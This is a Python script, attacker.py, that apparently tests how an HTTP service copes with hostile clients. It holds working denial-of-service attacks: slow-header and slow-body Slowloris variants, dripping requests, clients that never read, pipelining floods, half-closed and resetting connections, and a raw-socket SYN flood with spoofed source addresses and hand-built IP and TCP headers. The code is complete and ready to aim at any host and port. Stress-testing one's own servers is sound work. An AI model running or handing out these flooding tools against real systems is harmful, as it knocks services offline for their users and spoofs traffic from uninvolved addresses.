"""Clients that mean harm, as a program of their own: attacker.py KIND HOST PORT NUMBER RATE [INTERFACE]

Holds NUMBER connections, which all do what KIND says, and opens another at once for each that it
loses, at most RATE a second; of SYNs, it sends RATE a second, by hand, on the interface. It says
"attacking" on standard output once it has opened so many (or sent one of the SYNs), and ends when
it is told to, with how many it has opened.
"""

import errno
import itertools
import random
import select
import signal
import socket
import struct
import sys
import time

HEAD = b"POST /callbackAfterQuitGroupCommand HTTP/1.1\r\nHost: q\r\n"
BODY = b'{"groupID":"G","userID":"attacker"}'
FIELDS = b"Content-Length: %d\r\n\r\n" % len(BODY)
READ_ALL = b"GET /status?limit=65535 HTTP/1.1\r\nHost: q\r\n\r\n"

# What each sends at once, and what by single bytes, one a second; whether it reads what comes.
KINDS = {
    "silent": (b"", b"", True),
    "slow_head": (HEAD[:9], HEAD[9:], True),
    "slow_body": (HEAD + FIELDS + BODY[:1], BODY[1:], True),
    "dripping_request": (b"", HEAD + FIELDS + BODY, True),
    "no_reader": (READ_ALL, b"", False),
    "pipelining": (READ_ALL * 20, b"", False),
    "staying": (HEAD + FIELDS + BODY, b"", True),  # told to close, does not
    "half_closed": (HEAD + FIELDS + BODY[:9], b"", True),
    "resetting": (HEAD + FIELDS + BODY[:9], b"", True),
}
SHORT_LIVED_S = 0.05  # until a reset in the middle of a request


class Attacker:
    def __init__(self, kind, host, port, number, rate):
        self.kind, self.where, self.number, self.rate = kind, (host, port), number, rate
        self.at_once, self.slowly, self.reads = KINDS[kind]
        self.epoll = select.epoll()
        self.socks = {}  # by file descriptor: socket, and what it has still to send by single bytes
        self.opened = 0
        self.begin = time.monotonic()
        self.told = False

    def open(self):
        sock = socket.socket()
        sock.setblocking(False)
        if not self.reads:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        if sock.connect_ex(self.where) not in (0, errno.EINPROGRESS):
            sock.close()
            return
        self.opened += 1
        self.socks[sock.fileno()] = [sock, b"", time.monotonic()]
        self.epoll.register(sock.fileno(), select.EPOLLOUT)

    def lose(self, fd, reset=False):
        sock = self.socks.pop(fd)[0]
        if reset:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.close()

    def connected(self, fd):
        held = self.socks[fd]
        held[1] = self.slowly
        held[0].send(self.at_once)
        if self.kind == "half_closed":
            held[0].shutdown(socket.SHUT_WR)
        self.epoll.modify(fd, select.EPOLLIN if self.reads else 0)

    def happened(self, fd, event):
        try:
            if event & select.EPOLLOUT:
                self.connected(fd)
            elif event & (select.EPOLLHUP | select.EPOLLERR) or not self.socks[fd][0].recv(65536):
                self.lose(fd)
        except OSError:
            self.lose(fd)

    def drip(self, now):
        for fd, held in list(self.socks.items()):
            if held[1] and now - held[2] >= 1:
                held[2] = now
                try:
                    held[0].send(held[1][:1])
                    held[1] = held[1][1:]
                except OSError:
                    self.lose(fd)
            elif self.kind == "resetting" and now - held[2] >= SHORT_LIVED_S:
                self.lose(fd, reset=True)

    def turn(self):
        now = time.monotonic()
        allowed = self.number + self.rate * (now - self.begin)
        while len(self.socks) < self.number and self.opened < allowed:
            self.open()
        if self.opened >= self.number and not self.told:
            self.told = True
            print("attacking", flush=True)
        self.drip(now)
        for fd, event in self.epoll.poll(0.005):
            if fd in self.socks:
                self.happened(fd, event)


def checksum(data):
    """RFC 1071."""
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(to_mac, from_mac, source, target, source_port, port):
    """A frame: from anyone at all, who will not answer."""
    addresses = source + target
    ip_head = struct.pack(">BBHHHBBH", 0x45, 0, 44, random.getrandbits(16), 0, 64, 6, 0) + addresses
    ip_head = ip_head[:10] + struct.pack(">H", checksum(ip_head)) + ip_head[12:]
    tcp = struct.pack(">HHIIBBHHH4B", source_port, port, random.getrandbits(32), 0, 0x60, 2, 64240,
                      0, 0, 2, 4, 5, 180)
    summed = checksum(addresses + struct.pack(">BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack(">H", summed) + tcp[18:]
    return to_mac + from_mac + b"\x08\x00" + ip_head + tcp


def mac_of(host, interface):
    """Whom we have talked to a moment ago."""
    with open("/proc/net/arp", encoding="ascii") as file:
        for line in file:
            words = line.split()
            if words[0] == host and words[5] == interface:
                return bytes.fromhex(words[3].replace(":", ""))
    raise SystemExit(f"{host} has no MAC address")


def flood_of_syns(host, port, rate, interface):
    """From far away, and some from a few hosts of this link; each from a port of its own."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.bind((interface, 0))
    target = socket.inet_aton(host)
    to_mac, from_mac = mac_of(host, interface), sock.getsockname()[4]
    frames = [
        syn(to_mac, from_mac,
            target[:3] + bytes([200 + i % 20]) if i % 4 == 0 else b"\xc0\x00\x02" + bytes([i % 256]),
            target, random.randrange(1024, 65536), port)
        for i in range(10000)
    ]
    begin = time.monotonic()
    print("attacking", flush=True)
    for sent in itertools.count(1):
        yield sent
        try:
            sock.send(frames[sent % len(frames)])
        except OSError as error:
            if error.errno != errno.ENOBUFS:
                raise
        ahead = begin + sent / rate - time.monotonic()
        if ahead > 0.002:
            time.sleep(ahead)


def main():
    kind, host, port, number, rate = sys.argv[1:6]
    stopping = []
    signal.signal(signal.SIGTERM, lambda *_: stopping.append(True))
    opened = 0
    if kind == "syns":
        for opened in flood_of_syns(host, int(port), float(rate), sys.argv[6]):
            if stopping:
                break
    else:
        attacker = Attacker(kind, host, int(port), int(number), float(rate))
        while not stopping:
            attacker.turn()
        opened = attacker.opened
    print(opened, flush=True)


if __name__ == "__main__":
    main()
